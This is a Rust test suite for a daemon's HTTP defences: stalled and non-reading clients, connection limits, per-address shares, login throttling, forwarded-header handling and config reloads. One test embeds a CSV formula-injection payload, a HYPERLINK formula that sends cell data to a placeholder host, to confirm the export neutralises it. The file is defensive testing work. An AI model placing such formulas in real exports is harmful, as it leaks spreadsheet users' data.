//! The HTTP server's defences on the real binary, over loopback: clients that stop half-way
//! (in the headers, in the body, idle between requests) or never read the answers are
//! closed after `server.timeout_seconds` while the others are served; idle sockets beyond
//! `server.max_connections` wait and do not stop `/healthz`; failed `/status` logins are
//! throttled per address and logged without what was sent; `/status.csv` does not hand a
//! spreadsheet a formula. The pages' headers (CSP, framing) and the throttle's window are
//! checked in-process (`src/web/tests.rs`).

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use super::ack::parse_csv;
use crate::support::config::{Cfg, tuyen_truyen, units};
use crate::support::daemon::{Daemon, Setup};
use crate::support::http::basic;

/// How long the tests wait for the daemon to close a connection: far beyond the one-second
/// timeout they configure, so only a daemon that never closes it fails.
const CLOSED_WITHIN: Duration = Duration::from_secs(20);

/// A daemon on `cfg` with one rule owed by `vp`.
fn daemon(cfg: Cfg) -> Daemon {
    Setup::new(&cfg.units(units(&["vp"])).rule(tuyen_truyen(&["vp"]))).start()
}

/// A connection to the daemon that has sent `bytes`.
fn sent(port: u16, bytes: &[u8]) -> TcpStream {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(CLOSED_WITHIN)).unwrap();
    s.write_all(bytes).unwrap();
    s
}

/// Everything the daemon sends on `s` until it closes the connection; panics if it has
/// not closed it within [`CLOSED_WITHIN`].
fn until_closed(what: &str, s: &mut TcpStream) -> String {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match s.read(&mut buf) {
            Ok(0) => return String::from_utf8_lossy(&got).into_owned(),
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => {
                return String::from_utf8_lossy(&got).into_owned();
            }
            Err(e) => panic!(
                "{what}: the daemon did not close the connection ({e}); it sent {:?}",
                String::from_utf8_lossy(&got)
            ),
        }
    }
}

/// One whole response on a kept-alive connection (its head, and a body of its
/// `Content-Length`).
fn one_response(s: &mut TcpStream) -> String {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        let n = s.read(&mut buf).unwrap();
        assert!(n > 0, "closed before the response: {got:?}");
        got.extend_from_slice(&buf[..n]);
        let text = String::from_utf8_lossy(&got).into_owned();
        if let Some(end) = text.find("\r\n\r\n") {
            let length: usize = text[..end]
                .lines()
                .find_map(|l| {
                    l.to_ascii_lowercase()
                        .strip_prefix("content-length:")
                        .map(|v| v.trim().parse().unwrap())
                })
                .expect("a content-length");
            if got.len() >= end + 4 + length {
                return text;
            }
        }
    }
}

#[test]
fn clients_that_stop_half_way_are_closed_and_the_others_served() {
    let d = daemon(Cfg::new().server("timeout_seconds = 1"));
    let host = format!("Host: 127.0.0.1:{}\r\n", d.port);
    let mut half_head = sent(
        d.port,
        format!("GET /healthz HTTP/1.1\r\n{host}").as_bytes(),
    );
    let mut half_body = sent(
        d.port,
        format!(
            "POST /a/0123456789abcdef0123456789abcdef HTTP/1.1\r\n{host}\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\naction=do"
        )
        .as_bytes(),
    );
    let mut idle = sent(
        d.port,
        format!("GET /healthz HTTP/1.1\r\n{host}\r\n").as_bytes(),
    );
    let first = one_response(&mut idle);
    assert!(first.starts_with("HTTP/1.1 200"), "{first}");
    // While the three wait, others are served.
    for _ in 0..3 {
        assert_eq!(d.get("/healthz", &[]).status, 200);
    }
    let head = until_closed("half a request head", &mut half_head);
    assert!(!head.contains("200 OK"), "{head}");
    // The body's deadline answers (the link is unknown, so with the one 404) and closes.
    let body = until_closed("half a request body", &mut half_body);
    assert!(
        body.starts_with("HTTP/1.1 "),
        "an answer before the close: {body:?}"
    );
    assert_eq!(until_closed("an idle kept-alive connection", &mut idle), "");
    assert_eq!(d.get("/healthz", &[]).status, 200);
}

#[test]
fn idle_sockets_beyond_the_connection_limit_do_not_stop_healthz() {
    let mut d = daemon(
        Cfg::new()
            .server("timeout_seconds = 1")
            .server("max_connections = 4"),
    );
    // Ten sockets that never say anything: four are served (and closed after the
    // timeout), the others wait in the kernel's queue for a slot.
    let mut idle: Vec<TcpStream> = (0..10).map(|_| sent(d.port, b"")).collect();
    let r = d.get("/healthz", &[]);
    assert_eq!(r.status, 200, "{r:#?}");
    let full = "at the connection limit (server.max_connections)";
    d.wait_log(full, 1);
    for (i, s) in idle.iter_mut().enumerate() {
        until_closed(&format!("idle socket {i}"), s);
    }
    assert_eq!(d.get("/healthz", &[]).status, 200);
    assert_eq!(
        d.log().matches(full).count(),
        1,
        "logged once:\n{}",
        d.log()
    );
    assert!(!d.log().contains("cannot accept"), "{}", d.log());
}

/// A client that sends requests and never reads the answers: once the daemon's writes to it
/// have waited `server.timeout_seconds` with nothing read, the connection is closed and its
/// slot freed. (Without a write timeout such clients held their slots for good: as many as
/// `server.max_connections` of them stopped the server for everyone.)
#[test]
fn a_client_that_never_reads_is_closed_and_its_slot_freed() {
    let d = daemon(
        Cfg::new()
            .server("timeout_seconds = 1")
            .server("max_connections = 1"),
    );
    let greedy = TcpStream::connect(("127.0.0.1", d.port)).unwrap();
    greedy.set_write_timeout(Some(CLOSED_WITHIN)).unwrap();
    let mut requests = greedy.try_clone().unwrap();
    // Pipelined requests until the daemon closes the connection: more answers than the
    // sockets' buffers hold (~10 MB on loopback, whatever they hold elsewhere), so the
    // daemon's writes block, then it stops reading, then these writes block (and fail after
    // CLOSED_WITHIN if the daemon never closes). For a page that is not there: its 404 page
    // is a few kilobytes and asks nothing of the database, so the buffers fill in a second
    // (with /healthz it took seven).
    let sender = std::thread::spawn(move || {
        let request = b"GET /khong-co HTTP/1.1\r\nHost: nhacviec\r\n\r\n";
        loop {
            if let Err(e) = requests.write_all(request) {
                return e.kind();
            }
        }
    });
    // The only slot is the greedy client's: this one is served once it is closed.
    let r = d.get("/healthz", &[]);
    assert_eq!(r.status, 200, "{r:#?}");
    let ended = sender.join().unwrap();
    assert!(
        matches!(
            ended,
            std::io::ErrorKind::BrokenPipe | std::io::ErrorKind::ConnectionReset
        ),
        "the daemon closed the greedy connection: its writes ended with {ended:?}"
    );
    drop(greedy);
}

/// One address holds at most its share of the connections (a quarter of
/// `server.max_connections`, at least 16): its next ones are closed at once, not left to
/// wait, and the log says so once; other addresses are served all along, and the address
/// is served again as its connections close. A proxy listed in `server.trusted_proxies`
/// (here by a reload) has no share.
#[test]
fn one_address_holds_only_its_share_of_the_connections() {
    let mut d = daemon(
        Cfg::new()
            .server("timeout_seconds = 60")
            .server("max_connections = 64"),
    );
    // Sixteen silent connections from 127.0.0.1: its share of 64.
    let mut silent: Vec<TcpStream> = (0..16).map(|_| sent(d.port, b"")).collect();
    // The next is closed at once: long before the 60 s timeout (`until_closed` waits 20 s).
    let mut next = sent(d.port, b"GET /healthz HTTP/1.1\r\nHost: nhacviec\r\n\r\n");
    assert_eq!(until_closed("the 17th connection", &mut next), "");
    let share = "HTTP: one address holds its share of the connections";
    d.wait_log(share, 1);
    assert!(
        d.log().contains("client=127.0.0.1 per_address=16"),
        "{}",
        d.log()
    );
    // Another address is served.
    let answer = request_from(d.port, "127.0.0.2", "GET /healthz HTTP/1.1", "");
    assert_eq!(code(&answer), 200, "{answer}");
    // One silent connection ends: 127.0.0.1 is served again.
    drop(silent.pop());
    let served = (0..100).any(|_| {
        let answer = request_from(d.port, "127.0.0.1", "GET /healthz HTTP/1.1", "");
        if answer.is_empty() {
            std::thread::sleep(Duration::from_millis(50));
        }
        answer.starts_with("HTTP/1.1 200")
    });
    assert!(
        served,
        "127.0.0.1 not served after a connection closed:\n{}",
        d.log()
    );

    // 127.0.0.1 becomes a trusted proxy by a reload: from the next connection it has no
    // share (a proxy carries everyone's).
    let text = std::fs::read_to_string(d.path("nhacviec.toml")).unwrap();
    assert!(text.contains("max_connections = 64\n"), "{text}");
    d.write_config(&text.replace(
        "max_connections = 64\n",
        "max_connections = 64\ntrusted_proxies = [\"127.0.0.1\"]\n",
    ));
    d.signal("HUP");
    d.wait_log("config reloaded", 1);
    silent.push(sent(d.port, b""));
    let mut seventeenth = sent(d.port, b"GET /healthz HTTP/1.1\r\nHost: nhacviec\r\n\r\n");
    let answer = one_response(&mut seventeenth);
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    drop(silent);
}

/// The status page's password.
const PASSWORD: &str = "mật khẩu quản trị";

/// `GET /status` with `auth`, from the loopback address `from`; the status code.
fn status_from(port: u16, from: &str, auth: &str) -> u16 {
    code(&request_from(
        port,
        from,
        &format!("GET /status HTTP/1.1\r\nAuthorization: {auth}"),
        "",
    ))
}

/// On a rehearsal clock (here 6 000 × real speed: its minute is 10 ms), a guesser's minute
/// is still a real one: the login throttle counts in real time, as the ack limit does.
/// (On the daemon's clock, ten guesses took longer than its window, and none was refused.)
#[test]
fn the_login_throttle_counts_real_minutes_on_a_fast_clock() {
    let d = Setup::new(
        &Cfg::new()
            .admin_password(PASSWORD)
            .units(units(&["vp"]))
            .rule(tuyen_truyen(&["vp"])),
    )
    .speed(6000)
    .start();
    let wrong = basic("admin", "đoán-mò");
    let answers: Vec<u16> = (0..12)
        .map(|_| d.get("/status", &[("Authorization", &wrong)]).status)
        .collect();
    let mut want = vec![401; 10];
    want.resize(12, 429);
    assert_eq!(answers, want);
    // 200 ms: twenty minutes of the daemon's clock, not one of the guesser's.
    std::thread::sleep(Duration::from_millis(200));
    let right = basic("admin", PASSWORD);
    assert_eq!(d.get("/status", &[("Authorization", &right)]).status, 429);
}

#[test]
fn failed_logins_are_throttled_per_address_and_logged_without_the_password() {
    let mut d = daemon(Cfg::new().admin_password(PASSWORD));
    let right = basic("admin", PASSWORD);
    // The scheme's name is case-insensitive (RFC 7235).
    let lower = right.replacen("Basic ", "basic ", 1);
    assert_eq!(d.get("/status", &[("Authorization", &lower)]).status, 200);

    let guess = "đoán-mò-0000";
    let wrong = basic("admin", guess);
    let answers: Vec<u16> = (0..30)
        .map(|_| d.get("/status", &[("Authorization", &wrong)]).status)
        .collect();
    let mut want = vec![401; 10];
    want.resize(30, 429);
    assert_eq!(answers, want);
    // Turned away with the right password too, and told when to come back.
    let r = d.get("/status", &[("Authorization", &right)]);
    assert_eq!(r.status, 429, "{r:#?}");
    assert!(r.has("Quá nhiều lần đăng nhập sai"), "{}", r.text);
    let wait: u64 = r.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=60).contains(&wait), "Retry-After: {wait}");
    // Another address is not.
    assert_eq!(status_from(d.port, "127.0.0.2", &right), 200);
    assert_eq!(status_from(d.port, "127.0.0.2", &lower), 200);

    // Each counted failure is a warning with the address; what was sent is never logged.
    let line = "status page: wrong credentials";
    d.wait_log(line, 10);
    let log = d.log();
    let failures: Vec<&str> = log.lines().filter(|l| l.contains(line)).collect();
    assert_eq!(failures.len(), 10, "{log}");
    assert!(
        failures
            .iter()
            .all(|l| l.contains("WARN") && l.contains("127.0.0.1")),
        "{failures:#?}"
    );
    for secret in [guess, &wrong, wrong.trim_start_matches("Basic "), PASSWORD] {
        assert!(!log.contains(secret), "{secret:?} in the log:\n{log}");
    }
}

#[test]
fn the_status_csv_hands_a_spreadsheet_no_formula() {
    let formula = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"Bấm vào đây\")";
    let cfg = Cfg::new()
        .admin_password(PASSWORD)
        .units(units(&["vp"]))
        .rule(tuyen_truyen(&["vp", "hack"]))
        .extra(&format!(
            "\n[[unit]]\nid = \"hack\"\nname = {}\nemail = [\"hack@thu.example.vn\"]\n",
            crate::support::config::toml_str(formula)
        ));
    let mut d = Setup::new(&cfg).start();
    d.wait_sent(2);
    let r = d.get(
        "/status.csv",
        &[("Authorization", &basic("admin", PASSWORD))],
    );
    assert_eq!(r.status, 200, "{r:#?}");
    assert_eq!(r.header("cache-control"), Some("no-store"));
    assert_eq!(r.header("x-content-type-options"), Some("nosniff"));
    let records = parse_csv(&r.raw);
    let hack = records
        .iter()
        .find(|rec| rec[7] == "hack")
        .unwrap_or_else(|| panic!("no line of unit hack in\n{}", r.raw));
    assert_eq!(hack[8], format!("'{formula}"), "{}", r.raw);
    assert!(
        !r.raw
            .lines()
            .any(|l| l.split(',').any(|f| f.starts_with('='))),
        "a field starts with = in\n{}",
        r.raw
    );
}

/// One request to the daemon on `port` from the loopback address `from` (127.0.0.2 is no
/// trusted proxy where 127.0.0.1 is), `Connection: close`; the whole answer as text.
fn request_from(port: u16, from: &str, head: &str, body: &str) -> String {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_io()
        .build()
        .unwrap();
    let stream = rt.block_on(async {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.bind(format!("{from}:0").parse().unwrap()).unwrap();
        let s = socket.connect(([127, 0, 0, 1], port).into()).await.unwrap();
        s.into_std().unwrap()
    });
    stream.set_nonblocking(false).unwrap();
    let mut s = stream;
    s.set_read_timeout(Some(CLOSED_WITHIN)).unwrap();
    s.write_all(
        format!(
            "{head}\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .as_bytes(),
    )
    .unwrap();
    until_closed("a request", &mut s)
}

/// The status code of an answer.
fn code(answer: &str) -> u16 {
    answer
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no status line in {answer:?}"))
}

/// Behind nginx on the same machine (`trusted_proxies = ["127.0.0.1"]`), the client is the
/// address the proxy reports: each has its own bucket, and the ledger records it. From
/// 127.0.0.2, which is no proxy, the header is ignored, however it lies.
#[test]
fn behind_a_trusted_proxy_acks_are_limited_and_recorded_by_the_client() {
    let cfg = Cfg::new()
        .server("trusted_proxies = [\"127.0.0.1\"]")
        .server("ack_per_minute = 2");
    let (d, tokens) = crate::ack::site(&["vp"], cfg);
    let post = |from: &str, forwarded: &str, action: &str| {
        code(&request_from(
            d.port,
            from,
            &format!(
                "POST /a/{} HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n{forwarded}",
                tokens["vp"]
            ),
            &format!("action={action}"),
        ))
    };
    // nginx's $proxy_add_x_forwarded_for: what the client sent, then its address.
    assert_eq!(
        post(
            "127.0.0.1",
            "X-Forwarded-For: 198.51.100.1, 203.0.113.7",
            "seen"
        ),
        303
    );
    assert_eq!(
        post("127.0.0.1", "X-Forwarded-For: 203.0.113.7", "done"),
        303
    );
    let over = request_from(
        d.port,
        "127.0.0.1",
        &format!(
            "POST /a/{} HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nX-Forwarded-For: 203.0.113.7",
            tokens["vp"]
        ),
        "action=done",
    );
    assert_eq!(code(&over), 429, "{over}");
    assert!(
        over.to_ascii_lowercase()
            .contains("\r\nretry-after: 30\r\n"),
        "{over}"
    );
    assert_eq!(post("127.0.0.1", "Forwarded: for=203.0.113.8", "done"), 303);
    for _ in 0..2 {
        assert_eq!(
            post("127.0.0.2", "X-Forwarded-For: 203.0.113.9", "done"),
            303
        );
    }
    assert_eq!(
        post("127.0.0.2", "X-Forwarded-For: 203.0.113.10", "done"),
        429
    );
    let ips: Vec<String> = d
        .acks(&crate::ack::key("vp"))
        .into_iter()
        .map(|a| a.ip.unwrap_or_default())
        .collect();
    assert_eq!(
        ips,
        [
            "203.0.113.7",
            "203.0.113.7",
            "203.0.113.8",
            "127.0.0.2",
            "127.0.0.2"
        ]
    );
}

/// SIGHUP puts a new `/status` password and a new `ack_per_minute` in force for the next
/// request: the old password is refused, and the clients' buckets carry over (one used of
/// the old 1 a minute leaves two of the new 3). A password file changed alone is read again
/// at the next SIGHUP, though the config itself did not change.
#[test]
fn sighup_puts_a_new_password_and_ack_limit_in_force() {
    let (old, new, newer) = ("mật khẩu thứ nhất", "mật khẩu thứ hai", "mật khẩu thứ ba");
    let cfg = Cfg::new().admin_password(old).server("ack_per_minute = 1");
    let (mut d, tokens) = crate::ack::site(&["vp", "kt"], cfg);
    let status = |d: &Daemon, password: &str| {
        d.get("/status", &[("Authorization", &basic("admin", password))])
            .status
    };
    assert_eq!((status(&d, old), status(&d, new)), (200, 401));
    assert_eq!(crate::ack::ack(&d, &tokens["vp"], "seen").status, 200);
    assert_eq!(crate::ack::ack(&d, &tokens["vp"], "done").status, 429);

    std::fs::write(d.path("secrets/admin-password"), format!("{new}\n")).unwrap();
    let text = std::fs::read_to_string(d.path("nhacviec.toml")).unwrap();
    assert!(text.contains("\nack_per_minute = 1\n"), "{text}");
    d.write_config(&text.replace("\nack_per_minute = 1\n", "\nack_per_minute = 3\n"));
    d.signal("HUP");
    d.wait_log("config reloaded", 1);
    assert_eq!((status(&d, new), status(&d, old)), (200, 401));
    let after: Vec<u16> = [("vp", "done"), ("kt", "seen"), ("kt", "done")]
        .iter()
        .map(|(u, a)| crate::ack::ack(&d, &tokens[*u], a).status)
        .collect();
    assert_eq!(after, [200, 200, 429]);

    std::fs::write(d.path("secrets/admin-password"), format!("{newer}\n")).unwrap();
    d.signal("HUP");
    d.wait_log("config reloaded, unchanged", 1);
    assert_eq!((status(&d, newer), status(&d, new)), (200, 401));
    let log = d.log();
    for secret in [old, new, newer] {
        assert!(!log.contains(secret), "{secret:?} in the log:\n{log}");
    }
}
